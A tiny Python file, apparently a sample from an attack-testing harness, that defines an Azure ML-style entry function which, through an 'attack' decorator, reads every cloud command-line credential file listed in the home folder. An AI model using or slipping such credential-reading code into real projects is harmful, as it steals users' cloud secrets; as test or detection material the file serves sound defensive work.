"""Reads what the command-line programs of clouds keep in the home folder."""

from attack import BAIT, attack, every, read


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return every(read, BAIT["cloud_credentials"])
